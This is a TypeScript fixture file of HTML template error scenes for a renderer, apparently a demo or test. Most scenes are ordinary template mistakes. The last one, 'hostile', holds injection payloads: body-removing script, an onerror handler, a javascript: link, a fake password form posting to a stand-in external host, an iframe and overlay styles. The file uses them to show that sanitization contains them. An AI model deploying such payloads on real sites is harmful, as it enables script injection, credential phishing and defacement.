/** Templates with mistakes, and one that means harm. */
import { depots } from './html-scene-data.ts';
import type { Scene } from './scene.ts';

const base = { kind: 'html', rows: () => depots, state: 'error', height: 220 } as const;

export const htmlErrorScenes: readonly Scene[] = [
  {
    ...base,
    id: 'missing',
    title: 'A name that is not there',
    note: 'Strict: a mistake has its line, its column and a caret.',
    spec: { template: '<ul>\n{{#each data}}\n  <li>{{[depots.town]}}</li>\n{{/each}}\n</ul>' },
  },
  {
    ...base,
    id: 'syntax',
    title: 'A block that is never closed',
    spec: { template: '<h3>Depots</h3>\n{{#each data}}\n  <p>{{[depots.city]}}</p>' },
  },
  {
    ...base,
    id: 'endless',
    title: 'A template without an end',
    note: 'It is stopped before the page feels it.',
    spec: { template: '{{#*inline "again"}}x{{> again}}{{/inline}}\n{{> again}}' },
  },
  { ...base, id: 'none', title: 'No template', spec: {} },
  {
    ...base,
    id: 'hostile',
    title: 'A template that means harm',
    note: 'No script runs, nothing is fetched, nothing leaves the box, no style reaches the page.',
    state: 'normal',
    spec: {
      template: `<style>body { display: none } @import "https://elsewhere.example/x.css"
.over { position: fixed; inset: 0; background: gold url(https://elsewhere.example/x.png) }</style>
<script>document.body.remove()</script>
<img src="https://elsewhere.example/x.png" onerror="document.body.remove()" alt="A picture from elsewhere">
<form action="https://elsewhere.example"><input name="parentNode" placeholder="password"><button>Sign in</button></form>
<iframe src="https://elsewhere.example"></iframe>
<p class="over">Still in its place</p>
<p style="position: absolute; inset: -2000px; z-index: 9">and so is this</p>
<a href="javascript:document.body.remove()">A link that leads nowhere</a>`,
    },
  },
];
